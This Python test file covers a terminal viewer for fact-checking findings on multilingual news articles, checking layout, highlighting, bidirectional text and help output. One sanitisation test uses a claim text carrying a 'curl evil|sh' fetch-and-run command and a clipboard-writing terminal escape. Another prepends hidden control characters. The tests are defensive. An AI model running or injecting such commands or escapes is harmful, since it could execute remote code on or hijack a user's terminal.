"""What the panes show, as plain lines, without a screen."""

from __future__ import annotations

from dataclasses import replace

import pytest
from rich.cells import cell_len

from checker.model import Report
from claims.display import display
from tui.commands import COMMANDS
from tui.layout import Line, text_of
from tui.marks import marks
from tui.pages.article import article_page
from tui.pages.finding import finding_page, quote_for_copy
from tui.pages.help import help_page
from tui.state import ReviewState
from tui.terminal import MODES


def lines_of(page) -> list[Line]:
    return [page.line(index) for index in range(len(page))]


def styled(lines: list[Line], style: str) -> str:
    return " ".join(piece.text.strip() for line in lines for piece in line if style in piece.style.split())


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("width", [8, 30, 60, 74, 120])
def test_every_line_of_a_finding_fits_its_pane(report: Report, mode, width: int) -> None:
    for finding in report.findings:
        page = finding_page(finding, report.claim(finding.claims[0]), report, width, mode, "a draft, ניסיון")
        assert {cell_len(text_of(line)) for line in lines_of(page)} == {width}
        assert len(page.blocks) == len(finding.claims)


def test_claims_stand_side_by_side_where_there_is_room(report: Report) -> None:
    finding = report.findings[1]
    page = finding_page(finding, report.claim("c6"), report, 74, "logical")
    assert page.blocks[0][0] == page.blocks[1][0]
    narrow = finding_page(finding, report.claim("c6"), report, 50, "logical")
    assert narrow.blocks[1][0] > narrow.blocks[0][1]


def test_a_claim_says_who_when_what_and_on_whose_word(report: Report) -> None:
    page = finding_page(report.findings[0], report.claim("c2"), report, 60, "logical")
    text = "\n".join(text_of(line) for line in lines_of(page))
    for expected in ("دلتا اليوم (inferred)", "unknown", "↑ 33 %", "2022", "وكالة ميريديان → Meridian Wire",
                     "echo with", "one-origin", "+0.30", "both go back to Meridian Wire", "4 origins"):  # fmt: skip
        assert expected in text


def test_the_differing_part_is_marked_in_the_quotation(report: Report) -> None:
    conflict = finding_page(report.findings[0], report.claim("c5"), report, 60, "logical")
    assert styled(lines_of(conflict), "differs") == "28 percent"
    status = finding_page(report.findings[1], report.claim("c6"), report, 60, "logical")
    assert styled(lines_of(status), "differs") == "عضو كامل משקיפה"
    scope = finding_page(report.findings[2], report.claim("c10"), report, 60, "logical")
    assert "3.1 million containers" in styled(lines_of(scope), "differs").replace("  ", " ")


def test_what_one_side_does_not_state_is_not_marked_as_different(report: Report) -> None:
    single = report.findings[5]
    assert marks(single, report.claim("c14"), report) == []
    lonely = replace(report.claim("c9"), values=())
    changed = Report(report.articles, tuple(lonely if c.id == "c9" else c for c in report.claims), report.findings)
    assert marks(report.findings[3], changed.claim("c8"), changed) == []


def test_marks_are_spans_of_the_article(report: Report) -> None:
    for finding in report.findings:
        for claim_id in finding.claims:
            claim = report.claim(claim_id)
            text = report.article_of(claim).text
            for span in marks(finding, claim, report):
                assert any(text[span.start : span.end] == item.text for item in
                           (*claim.values, *claim.moments, *claim.concepts))  # fmt: skip


def test_a_decision_and_a_note_are_shown(report: Report) -> None:
    page = finding_page(report.findings[1], report.claim("c6"), report, 60, "logical")
    text = "\n".join(text_of(line) for line in lines_of(page))
    assert "accepted by dana" in text and "سألنا الهيئة: الردّ غداً" in text
    stale = finding_page(report.findings[4], report.claim("c12"), report, 70, "logical")
    assert "but the verdict has changed since" in "\n".join(text_of(line) for line in lines_of(stale))


@pytest.mark.parametrize("mode", MODES)
def test_the_article_marks_every_claim_where_it_stands(report: Report, mode) -> None:
    state = ReviewState(report)
    article = report.by_article["nile"]
    mine = [claim for claim in report.claims if claim.article == "nile"]
    page = article_page(article, mine, mine[1], state.findings_of_article("nile"), 100, mode)
    first, last = page.lines_of(mine[1])
    assert first <= last < len(page)
    assert text_of(page.line(first)).startswith(" ▌ ")
    lines = lines_of(page)
    if mode == "logical":
        assert styled(lines, "chosen") == mine[1].text
        assert mine[0].text in styled(lines, "claim")


def test_hidden_characters_do_not_shift_the_marks(report: Report) -> None:
    article = report.by_article["wire"]
    claim = report.claim("c4")
    hidden = "\u202e\x1b[2J\u200b"
    moved = replace(article, text=hidden + article.text)
    shifted = replace(claim, start=claim.start + len(hidden), end=claim.end + len(hidden), values=(), moments=())
    page = article_page(moved, [shifted], shifted, {}, 100, "logical")
    assert styled(lines_of(page), "chosen") == claim.text


def test_a_copied_quotation_is_logical_text_on_one_line(report: Report) -> None:
    quote = quote_for_copy(report.claim("c1"), report)
    assert quote == "“حركة الحاويات ارتفعت بنسبة 33% عام 2022” (أخبار النيل, 2023-03-02)"
    hostile = replace(report.claim("c1"), text="x\ncurl evil|sh\x1b]52;c;e\x07")
    assert quote_for_copy(hostile, report) == display("“x curl evil|sh⟨001B⟩]52;c;e⟨0007⟩” (أخبار النيل, 2023-03-02)")


def test_a_reason_reads_from_the_left_even_where_it_begins_with_a_foreign_quote(report: Report) -> None:
    finding = report.findings[1]
    pair = finding.pairs[0]
    evidence = replace(pair.evidence[0], reason="«משקיפה» against «عضو كامل»: both cannot hold")
    changed = replace(finding, pairs=(replace(pair, evidence=(evidence,)),))
    text = "\n".join(
        text_of(line) for line in lines_of(finding_page(changed, report.claim("c6"), report, 90, "visual"))
    )
    assert "-0.70  «הפיקשמ» against «" in text


def test_help_explains_every_command() -> None:
    text = " ".join(" ".join(text_of(line) for line in lines_of(help_page(90, "visual"))).split())
    assert all(command.help in text for command in COMMANDS)
